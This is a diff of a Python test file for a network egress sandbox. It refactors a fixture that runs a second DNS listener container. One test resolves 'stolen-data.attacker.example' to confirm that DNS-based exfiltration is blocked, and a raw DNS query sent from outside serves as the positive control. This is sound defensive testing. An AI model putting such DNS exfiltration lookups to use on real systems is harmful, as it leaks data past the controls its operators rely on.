@@ -17,10 +17,6 @@ from tests.support.live import LABEL, Internet, Live, docker, eventually
 ALLOWED, DENIED = "api.example.org", "other.example.org"
 METADATA = "169.254.169.254"
 ROUTES = f"egress: {{routes: [{{host: {ALLOWED}, git: {{fetch: true}}}}]}}\n"
-LISTENER = (
-    "python3", "-m", "tests.world", "serve", "--listen", "0.0.0.0", "--tls-port", "443",
-    "--http-port", "80", "--control-port", "8080", "--dns-port", "53", "--max-seconds", "900",
-)  # fmt: skip
 FETCH = """fetch(process.argv[1]).then(
   async r => console.log(JSON.stringify({status: r.status, body: await r.text()})),
   e => { console.log(String(e.cause || e)); process.exit(1); })"""
@@ -69,19 +65,12 @@ def open_bottle(live: Live) -> Live:
 @pytest.fixture
 def listener(internet: Internet, images: str) -> Iterator[Internet]:
     """A second far side that also answers DNS, beside the first."""
-    from tests.support.live import ROOT
-
-    name = f"{internet.name}-b"
-    docker(
-        "run", "-d", "--name", name, "--label", LABEL, "--network", internet.name, "--user", "0:0",
-        "-v", f"{ROOT / 'tests'}:/world/tests:ro", "-w", "/world", images, *LISTENER,
-    )  # fmt: skip
-    made = Internet(name, "", internet.folder)
+    made = Internet(f"{internet.name}-b", "", internet.folder / "b")
     try:
-        eventually(lambda: made.ask("health"), 20)
+        made.serve(images, internet.name, options=("--dns-port", "53"))
         yield made
     finally:
-        docker("rm", "-f", name, check=False)
+        docker("rm", "-f", made.name, check=False)
 
 
 def from_outside(internet: Internet, script: str) -> str:
@@ -141,7 +130,7 @@ def test_no_dns_query_leaves(open_bottle: Live, listener: Internet) -> None:
     assert node(live, RESOLVE, "stolen-data.attacker.example") == (0, own)
     code, out = node(live, RESOLVE, "stolen-data.attacker.example", far)
     assert code != 0, out
-    assert listener.ask("truth")["dns"] == []
+    assert listener.far.truth()["dns"] == []
     # The positive control: from outside the same query arrives.
     query = bytes.fromhex("000101000001000000000000") + b"\x04stol\x07example\0\0\1\0\1"
     from_outside(
@@ -149,7 +138,7 @@ def test_no_dns_query_leaves(open_bottle: Live, listener: Internet) -> None:
         "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); "
         f"s.sendto({query!r}, ('{far}', 53)); s.recv(512)",
     )
-    assert [q["name"] for q in listener.ask("truth")["dns"]] == ["stol.example"]
+    assert [q["name"] for q in listener.far.truth()["dns"]] == ["stol.example"]
 
 
 def live_network(live: Live) -> str:
